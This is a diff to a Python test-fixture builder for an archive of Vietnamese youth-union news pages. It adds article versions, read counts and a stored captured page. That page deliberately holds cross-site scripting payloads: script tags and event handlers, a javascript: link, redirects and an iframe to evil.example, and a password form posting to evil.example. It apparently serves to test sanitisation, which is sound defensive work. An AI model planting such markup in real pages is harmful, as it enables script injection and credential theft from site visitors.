@@ -64,6 +64,15 @@ HTML = (
     "<table><tr><td>Đơn vị</td><td>Số công trình được khởi công trong đợt này</td><td>Kinh phí (đồng)</td></tr>"
     "<tr><td>An Biên</td><td>9</td><td>1.250.000.000</td></tr></table>"
 )
+#: The captured page of article 1: what the site sent, with all that must never run.
+CAPTURED = (
+    '<html><head><title>x</title><script>alert(1)</script><meta http-equiv=refresh content="0;url=//evil.example">'
+    '<style>body{background:url(//evil.example)}</style><base href="//evil.example/"></head><body onload="alert(2)">'
+    "<h1>Đoàn thanh niên ra quân</h1><p style='color:red' onclick='alert(3)'>Trang như lúc chụp.</p>"
+    '<img src="/anh/1.png" onerror="alert(4)" alt="Quang cảnh"><img src="http://dem.example/dem.gif">'
+    '<a href="javascript:alert(5)">Trang chủ</a><iframe src="//evil.example"></iframe>'
+    '<form action="//evil.example"><input name="mat-khau"><button>Gửi</button></form><svg onload="alert(6)"></svg>'
+)
 
 
 def png(width: int, height: int) -> bytes:
@@ -99,8 +108,12 @@ def build(folder: Path) -> Path:
                   province_old="Kiên Giang", province_new="An Giang", rights_holder="Tỉnh đoàn Kiên Giang")  # fmt: skip
     other = insert(db, "sites", slug="ca-mau", name="Tỉnh đoàn Cà Mau", url="http://camau.example/",
                    rights_publish="excerpt")  # fmt: skip
+    page = record("http://tinhdoan.example/bai/1", CAPTURED.encode("utf-16"), "Content-Type: text/html\r\n")
     capture = insert(db, "captures", site_id=site, url="http://tinhdoan.example/bai/1", captured_at=SEEN, status=200,
-                     warc="kho-0001.warc.gz", offset=9, length=10, digest="sha1:PAGE")  # fmt: skip
+                     warc="kho-0002.warc.gz", offset=0, length=len(page), digest="sha1:PAGE",
+                     charset_used="utf-16")  # fmt: skip
+    (folder / "warc").mkdir(exist_ok=True)
+    (folder / "warc" / "kho-0002.warc.gz").write_bytes(page)
     for position, (title, lead, body, byline, section, published, event, reads, status) in enumerate(ARTICLES, 1):
         owner = other if section == "Sinh viên" else site
         db.conn.execute("insert or ignore into sections (site_id, name) values (?, ?)", [owner, section])
@@ -145,6 +158,15 @@ def _decorate(db: Any, site: int, folder: Path) -> None:
            title="Bài ngoài kho", first_seen_at=SEEN, last_seen_at=SEEN)  # fmt: skip
     insert(db, "related_links", article_id=1, url="http://tinhdoan.example/bai/12", kind="older", position=1,
            title="Liên kết đến bài ẩn", target_id=12, first_seen_at=SEEN, last_seen_at=SEEN)  # fmt: skip
+    before = {"title": "Đoàn thanh niên ra quân Tháng Thanh niên", "lead": "Hơn 400 đoàn viên tham gia ngày hội.",
+              "body": BODY.replace("300", "250").rpartition("\n")[0], "images": "[]"}  # fmt: skip
+    now = {"title": ARTICLES[0][0], "lead": ARTICLES[0][1], "body": BODY,
+           "images": '[["http://tinhdoan.example/anh/1.png", "Quang cảnh chương trình", null, null]]'}  # fmt: skip
+    for number, texts in enumerate((before, now), 1):
+        insert(db, "versions", article_id=1, number=number, seen_at=f"2026-11-{10 + number}T03:04:05Z", capture_id=1,
+               digest=f"v{number}", extractor=1, byline="Tánh Võ", **texts)  # fmt: skip
+    insert(db, "versions", article_id=1, number=3, seen_at=SEEN, digest="v3", extractor=1, staged=1, title="Bản hỏng")
+    db.conn.execute("update articles set versions = 2, image_count = 2, attachment_count = 1 where id = 1")
     insert(db, "read_counts", article_id=1, seen_at="2026-11-01T03:04:05Z", read_count=4900)
     insert(db, "read_counts", article_id=1, seen_at=SEEN, read_count=4982)
 
